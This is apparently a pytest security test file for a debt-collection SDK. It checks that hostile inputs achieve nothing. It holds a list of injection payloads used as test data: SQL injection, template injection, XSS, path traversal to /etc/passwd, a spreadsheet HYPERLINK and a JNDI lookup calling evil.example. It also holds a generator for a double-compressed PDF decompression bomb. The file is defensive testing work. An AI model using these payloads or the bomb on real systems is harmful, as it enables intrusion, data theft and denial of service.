"""What a hostile debtor, sender or document tries against the whole, and that it comes to nothing.

`SECURITY.md` lists every attack with the test that tries it; those against one part alone are with
that part's tests.
"""

import io
import resource
import zlib
from email import message_from_bytes, policy

import pikepdf
import pytest

from dunning_sdk.connectors.einvoice_files import read_einvoice
from dunning_sdk.connectors.facturx_write import write_facturx
from dunning_sdk.errors import InputError, RecordNotFoundError
from dunning_sdk.privacy.exporting import export
from dunning_sdk.records.kept_file import file_named
from tests.acceptance.program import dunning_here
from tests.en16931 import the_story
from tests.engine.marked import date_of, install, opened

EVIL_NAMES = [
    "Robert'); DROP TABLE events;--",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    '=HYPERLINK("http://evil.example")',
    "<script>alert(1)</script>",
    "#import sys: exec()",
    "../../../../etc/passwd",
    "a\u202eb%s%n${jndi:ldap://evil.example}",
]


def pdf_bomb():
    """Return a Factur-X file of 300 kB whose invoice inflates to 200 MB, packed twice."""
    packer = zlib.compressobj(9)
    packed = bytearray()
    for _ in range(200):
        packed += packer.compress(bytes(1024 * 1024))
    packed += packer.flush()
    with pikepdf.open(io.BytesIO(write_facturx(the_story(number="F-77")).pdf)) as pdf:
        for name in pdf.attachments:
            stream = pdf.attachments[name].get_file().obj
            flate = pikepdf.Name.FlateDecode
            stream.write(zlib.compress(bytes(packed), 9), filter=[flate, flate])
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def test_an_attachment_of_a_pdf_that_inflates_without_end_is_not_followed():
    bomb = pdf_bomb()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    with pytest.raises(InputError, match="is not a PDF that can be read"):
        read_einvoice(bomb, source="bomb.pdf")

    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
    assert len(bomb) < 2_000_000
    assert grown_mb < 150


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "..\\..\\x.pdf", "/etc/cron.d/x", "C:\\x\\y.pdf", "a/../../b.pdf"]
)
def test_a_kept_file_has_no_folder_in_its_name(name):
    kept = file_named(name, b"x").name

    assert "/" not in kept
    assert "\\" not in kept
    assert kept not in ("", ".", "..")


def test_names_chosen_by_a_debtor_do_nothing(tmp_path):
    """Each stands in a name, a street and a payment's reference; all of it is text."""
    folder = install(tmp_path / "installation")
    head = "number,issued,due,amount,currency,debtor,name,email,phone,street,city\n"
    rows = [
        f'F-{place},2026-02-02,2026-03-05,90.00,EUR,D-{place},"{quoted(name)}",a@b.example,,'
        f'"{quoted(name)}",Lyon\n'
        for place, name in enumerate(EVIL_NAMES)
    ]
    (folder / "invoices.csv").write_text(head + "".join(rows), encoding="utf-8")
    head_of_payments = "date,amount,reference,payer,iban\n"
    paid = "".join(f'2026-03-05,1.00,"{quoted(name)}","{quoted(name)}",\n' for name in EVIL_NAMES)
    (folder / "payments.csv").write_text(head_of_payments, encoding="utf-8")
    before = set(tmp_path.parent.iterdir())

    ran = dunning_here(folder, "run", "--as-of", "2026-03-05")

    assert len(ran["report"]["sent"]) == len(EVIL_NAMES)
    (folder / "payments.csv").write_text(head_of_payments + paid, encoding="utf-8")
    assert dunning_here(folder, "pull", "--as-of", "2026-03-06")["problems"] == []
    for path in (folder / "out").rglob("*.eml"):
        mail = message_from_bytes(path.read_bytes(), policy=policy.default)
        assert mail["To"].addresses[0].addr_spec == "a@b.example"
        assert mail["Bcc"] is None
    found = dunning_here(folder, "doctor")
    assert {each["verdict"] for each in found} <= {"fine", "warning"}
    assert set(tmp_path.parent.iterdir()) == before
    assert {path.name for path in tmp_path.iterdir()} == {"installation"}


def test_an_id_is_never_a_pattern_or_a_statement(tmp_path):
    with opened(install(tmp_path / "installation")) as engine:
        engine.run(as_of=date_of("2026-03-05"))
        for id in ("D-1' OR '1'='1", "%", "D-_", "../D-1", "D-1\x00", "*", ""):
            with pytest.raises(RecordNotFoundError, match="There is no debtor"):
                export(engine.store, id, tmp_path / "x.zip", on=date_of("2026-03-05"))
    assert not (tmp_path / "x.zip").exists()


def quoted(text):
    """Return a text as a CSV cell between quotes holds it."""
    return text.replace('"', '""')
